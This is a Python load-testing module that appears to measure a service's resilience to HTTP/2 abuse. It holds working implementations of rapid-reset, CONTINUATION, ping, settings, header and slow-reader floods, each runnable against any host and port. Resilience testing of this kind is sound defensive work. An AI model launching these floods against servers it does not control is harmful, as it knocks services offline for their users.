"""
Callers who abuse HTTP/2, and what an honest one notices of them: `python -m loadtest.abuse --target HOST:PORT`.

Each abuse keeps a few connections busy as hard as one process can, and opens a new one whenever the server closes one. Beside
it `paced` asks for authorizations at a modest pace. A table tells its latency without and with each abuse, and what the
abuser got done. The abuser is a process of its own: what it takes of the processors is taken from the server too.

Sources: RFC 9113, section 10.5 (denial of service); CVE-2023-44487 (rapid reset), CVE-2024-27316 (continuations without
end), CVE-2019-9511 to 9518 (pings, settings, empty frames, slow readers).
"""

import argparse
import asyncio
import contextlib
import json
import os
import struct
import subprocess
import sys
import time
from collections.abc import AsyncIterator, Callable, Iterator
from typing import Any, Final

from loadtest.floors import SERVICE
from loadtest.http2 import frame, headers_frame, preface

CONNECTIONS: Final = 4
HELD: Final = 200
"""Connections of those who only hold them."""

BURST: Final = 500
"""Frames that are written at once."""

HONEST_RATE: Final = 100.0
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE, _CONTINUATION = 0, 1, 3, 4, 6, 8, 9
_END_STREAM, _END_HEADERS = 0x1, 0x4
_CANCEL: Final = struct.pack(">I", 8)
_AUTHORIZE: Final = f"/{SERVICE}/Authorize"
_LINK: Final = f"/{SERVICE}/Link"
_READ: Final = 1 << 16

Bursts = Iterator[bytes]


def rapid_reset() -> Bursts:
    """Calls opened and cancelled at once, without end."""
    first = True
    for start in range(1, 2**31, 2 * BURST):
        parts = []
        for stream in range(start, start + 2 * BURST, 2):
            parts += [headers_frame(stream, _AUTHORIZE, first=first), frame(_RST_STREAM, 0, stream, _CANCEL)]
            first = False
        yield b"".join(parts)


def pings() -> Bursts:
    """Pings that all want an answer."""
    while True:
        yield frame(_PING, 0, 0, bytes(8)) * BURST


def settings() -> Bursts:
    """Settings that all want an acknowledgement."""
    while True:
        yield frame(_SETTINGS, 0, 0, b"") * BURST


def huge_headers() -> Bursts:
    """Calls whose headers are a megabyte each."""
    # A header never indexed, of 15,360 bytes: a length of 7 bits and the rest in two bytes (RFC 7541, section 5.1).
    header = b"\x10\x01x" + b"\x7f\x81\x77" + b"x" * 15_360
    for stream in range(1, 2**31, 2):
        yield frame(_HEADERS, 0, stream, b"\x83\x86\x44\x01/")
        yield frame(_CONTINUATION, 0, stream, header) * 64
        yield frame(_CONTINUATION, _END_HEADERS, stream, b"")


def continuations() -> Bursts:
    """One call whose headers never end."""
    yield frame(_HEADERS, 0, 1, b"\x83\x86")
    while True:
        yield frame(_CONTINUATION, 0, 1, b"\x00\x01a\x01b") * BURST


def empty_frames() -> Bursts:
    """Data frames with nothing in them on a call that never ends."""
    yield headers_frame(1, _LINK, first=True)
    while True:
        yield frame(_DATA, 0, 1, b"") * BURST


def window_updates() -> Bursts:
    """One byte more of window at a time."""
    while True:
        yield frame(_WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * BURST


def idle_calls() -> Bursts:
    """As many calls as may be open, none of which is ever sent."""
    yield b"".join(headers_frame(stream, _LINK, first=stream == 1) for stream in range(1, 40_001, 2))


def slow_readers() -> Bursts:
    """Echoes on a link, whose answers are never read."""
    yield headers_frame(1, _LINK, first=True)
    echo = b"\x3a\x82\x08\x0a\xff\x07" + b"x" * 1_023
    message = b"\x08\x01" + echo
    body = b"\x0a" + b"\x88\x08" + message
    while True:
        yield frame(_DATA, 0, 1, struct.pack(">BI", 0, len(body)) + body) * 50


def bad_messages() -> Bursts:
    """Frames of a link that are no messages, each of which wants to be told so."""
    yield headers_frame(1, _LINK, first=True)
    while True:
        bodies = [os.urandom(64) for _ in range(50)]
        yield b"".join(frame(_DATA, 0, 1, struct.pack(">BI", 0, len(body)) + body) for body in bodies)


def rubbish() -> Bursts:
    """Bytes that mean nothing."""
    while True:
        yield os.urandom(1 << 14)


def half_open() -> Bursts:
    """Nothing at all."""
    return iter(())


ABUSES: Final[dict[str, tuple[Callable[[], Bursts], int, bool, bool]]] = {
    # what is sent, on how many connections, whether it begins as HTTP/2, and whether answers are read
    "rapid_reset": (rapid_reset, CONNECTIONS, True, True),
    "pings": (pings, CONNECTIONS, True, True),
    "settings": (settings, CONNECTIONS, True, True),
    "huge_headers": (huge_headers, CONNECTIONS, True, True),
    "continuations": (continuations, CONNECTIONS, True, True),
    "empty_frames": (empty_frames, CONNECTIONS, True, True),
    "window_updates": (window_updates, CONNECTIONS, True, True),
    "idle_calls": (idle_calls, CONNECTIONS, True, True),
    "slow_readers": (slow_readers, CONNECTIONS, True, False),
    "bad_messages": (bad_messages, CONNECTIONS, True, True),
    "rubbish": (rubbish, CONNECTIONS, False, True),
    "half_open": (half_open, HELD, False, False),
}


class Abuser:
    """One kind of abuse against a server, until it is cancelled."""

    def __init__(self, kind: str, host: str, port: int) -> None:
        self._bursts, self._connections, self._speaks, self._reads = ABUSES[kind]
        self._address = (host, port)
        self.sent_bytes = 0
        self.closed = 0
        """Connections that the server closed, or refused."""

    async def run(self) -> None:
        """All connections."""
        await asyncio.gather(*(self._keep() for _ in range(self._connections)))

    async def _keep(self) -> None:
        while True:
            try:
                async with self._connected() as (reader, writer):
                    await self._send(reader, writer)
            except OSError:
                pass
            self.closed += 1
            await asyncio.sleep(0)

    @contextlib.asynccontextmanager
    async def _connected(self) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
        reader, writer = await asyncio.open_connection(*self._address)
        try:
            yield reader, writer
        finally:
            writer.transport.abort()

    async def _send(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        over = asyncio.ensure_future(self._until_closed(reader))
        try:
            if self._speaks:
                writer.write(preface())
            for burst in self._bursts():
                writer.write(burst)
                self.sent_bytes += len(burst)
                await writer.drain()
                await asyncio.sleep(0)
                if over.done():
                    return
            await over
        finally:
            over.cancel()

    async def _until_closed(self, reader: asyncio.StreamReader) -> None:
        if not self._reads:
            await asyncio.Event().wait()
        while await reader.read(_READ):
            pass


async def abuse(kind: str, target: str, seconds: float) -> dict[str, Any]:
    """Abuse a server for so long; what was sent, and how many connections the server closed."""
    host, _, port = target.rpartition(":")
    abuser = Abuser(kind, host, int(port))
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(seconds):
            await abuser.run()
    return {"kind": kind, "sent_mb": round(abuser.sent_bytes / 1e6, 1), "closed": abuser.closed}


def beside(kind: str, target: str, seconds: float) -> "subprocess.Popen[str]":
    """An abuser as a process of its own; it prints what it did when it ends."""
    command = [sys.executable, "-m", "loadtest.abuse", "--target", target, "--only", kind]
    return subprocess.Popen([*command, "--seconds", str(seconds)], stdout=subprocess.PIPE, text=True)


def honest(target: str, seconds: float, cards: int, run: int) -> dict[str, Any]:
    """What an honest caller sees in this time: `paced`, as a process of its own."""
    job = {"target": target, "rate": HONEST_RATE, "seconds": seconds, "cards": cards, "run": run}
    command = [sys.executable, "-m", "loadtest.paced"]
    done = subprocess.run(command, input=json.dumps(job), capture_output=True, text=True, check=True)
    found: dict[str, Any] = json.loads(done.stdout)
    return found


def main() -> None:
    """Measure every abuse, or be one."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--target", default="127.0.0.1:50051")
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("--cards", type=int, default=1_000)
    parser.add_argument("--only", choices=ABUSES, help="be this abuser, and say what was sent")
    given = parser.parse_args()
    if given.only:
        sys.stdout.write(json.dumps(asyncio.run(abuse(given.only, given.target, given.seconds))) + "\n")
        return
    row = "{:<16}{:>10}{:>10}{:>10}{:>10}{:>10}  {}\n".format
    sys.stdout.write(row("abuse", "p50_ms", "p99_ms", "p999_ms", "sent_mb", "closed", "codes"))
    run = int(time.time()) % 100_000
    for number, kind in enumerate(("none", *ABUSES)):
        abuser = None if kind == "none" else beside(kind, given.target, given.seconds + 1)
        seen = honest(given.target, given.seconds, given.cards, run + number)
        did = {"sent_mb": 0, "closed": 0} if abuser is None else json.loads(abuser.communicate()[0])
        sys.stdout.write(
            row(
                kind,
                seen["p50_ms"],
                seen["p99_ms"],
                seen["p999_ms"],
                did["sent_mb"],
                did["closed"],
                seen["codes"],
            )
        )
        sys.stdout.flush()


if __name__ == "__main__":
    main()
